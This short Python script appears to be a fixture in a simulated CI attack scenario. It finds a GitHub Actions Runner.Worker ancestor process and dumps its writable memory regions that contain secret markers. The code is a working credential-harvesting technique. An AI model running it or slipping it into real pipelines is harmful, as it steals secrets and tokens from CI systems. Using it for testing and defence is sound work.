# SPDX-License-Identifier: Apache-2.0
# What the scenes feed to python3: finds the Runner.Worker among its own ancestors, and prints the readable, writable parts of its
# memory that hold the mark of a secret. The victim is a stand-in that the scene started.
import os
import re
import sys

pid = os.getpid()
while pid > 1:
    with open(f"/proc/{pid}/cmdline", "rb") as command:
        if b"Runner.Worker" in command.read().split(b"\0")[0]:
            break
    with open(f"/proc/{pid}/status") as status:
        pid = int(re.search(r"PPid:\s*(\d+)", status.read()).group(1))
else:
    sys.exit("no Runner.Worker above")
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
    for line in maps:
        start, end, rights = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\S+)", line).groups()
        if not rights.startswith("rw"):
            continue
        memory.seek(int(start, 16))
        try:
            chunk = memory.read(int(end, 16) - int(start, 16))
        except OSError:
            continue
        if b"isSecret" in chunk:
            sys.stdout.buffer.write(chunk)
